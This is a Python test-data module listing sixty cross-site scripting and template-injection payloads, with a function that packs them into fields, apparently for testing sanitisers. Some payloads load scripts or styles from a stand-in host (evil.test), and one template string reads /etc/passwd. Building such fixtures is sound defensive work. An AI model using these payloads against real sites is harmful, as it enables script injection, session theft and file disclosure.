"""Sixty things people write to have a page do something; each would call `pwn()` or leave a mark.

After the cheat sheets of OWASP and PortSwigger: tags, handlers, addresses, ways out of attributes,
scripts, comments and raw text, parsers' disagreements, templates of Vue, Jinja and Python,
Markdown, and signs that hide letters.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>pwn(1)</script>",
    "<ScRiPt >pwn(2)</sCrIpT >",
    "<script src=//evil.test/pwn.js></script>",
    "<script type=module>pwn(4)</script>",
    "</script><script>pwn(5)</script>",
    "</title><script>pwn(6)</script>",
    "</textarea><script>pwn(7)</script>",
    "</style><script>pwn(8)</script>",
    "</noscript><script>pwn(9)</script>",
    "</template><script>pwn(10)</script>",
    "--><script>pwn(11)</script><!--",
    "<!--><script>pwn(12)</script>-->",
    "]]><script>pwn(13)</script>",
    "<<script>pwn(14)//<</script>",
    "<img src=x onerror=pwn(15)>",
    "<img/src/onerror=pwn(16)>",
    "<img src=`x`onerror=pwn(17)>",
    '"><img src=x onerror=pwn(18)>',
    "'><img src=x onerror=pwn(19)>",
    "><svg/onload=pwn(20)>",
    "<svg><script>pwn(21)</script></svg>",
    "<svg><animate onbegin=pwn(22) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwn(23)><text x=9 y=9>pwn</text></a></svg>",
    "<math><mtext></p><img src=x onerror=pwn(24)>",
    "<math href=javascript:pwn(25)>pwn</math>",
    "<iframe src=javascript:pwn(26)></iframe>",
    '<iframe srcdoc="<script>parent.pwn(27)</script>"></iframe>',
    "<object data=javascript:pwn(28)></object>",
    "<embed src=javascript:pwn(29)>",
    "<base href=//evil.test/pwn/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn(31)'>",
    "<link rel=stylesheet href=//evil.test/pwn.css>",
    "<style>@import '//evil.test/pwn.css';</style>",
    "<details open ontoggle=pwn(34)>",
    "<body onload=pwn(35)>",
    "<input autofocus onfocus=pwn(36)>",
    "<video><source onerror=pwn(37)></video>",
    "<form action=javascript:pwn(38)><button id=pwn>x</button></form>",
    "<button form=pwn formaction=javascript:pwn(39)>x</button>",
    "<a href=javascript:pwn(40) class=pwn>x</a>",
    "<a href=' &#14; javascript:pwn(41)'>x</a>",
    "<a href='java&#x09;script:pwn(42)'>x</a>",
    "<a href='data:text/html,<script>pwn(43)</script>'>x</a>",
    '" onmouseover=pwn(44) x="',
    "' autofocus onfocus=pwn(45) x='",
    "` onclick=pwn(46) `",
    "&lt;script&gt;pwn(47)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(48)&#62;",
    "%3Cscript%3Epwn(49)%3C/script%3E",
    "\\u003cscript\\u003epwn(50)\\u003c/script\\u003e",
    "';pwn(51);//",
    '"});pwn(52);({"',
    "\u2028pwn(53)\u2029",
    "${pwn(54)}`+pwn(54)+`",
    "{{constructor.constructor('pwn(55)')()}}",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "{0.__class__}{x}%(x)s%n#{pwn(57)}",
    "[pwn](javascript:pwn(58)) ![pwn](javascript:pwn(58))",
    "<javascript:pwn(59)> [x](&#106;avascript:pwn(59))",
    "\u202e<b\u200b class=pwn>\ufeff<x onclick=pwn(60)>",
)


def written(row: int, length: int | None) -> str:
    """Fill a field of so many signs with payloads, others for each row; all where there is room."""
    turn = row * 7 % len(PAYLOADS)
    text = ""
    for payload in (*PAYLOADS[turn:], *PAYLOADS[:turn]):
        if length is None or len(text) + len(payload) + 1 <= length:
            text += f" {payload}" if text else payload
    return text or PAYLOADS[50]
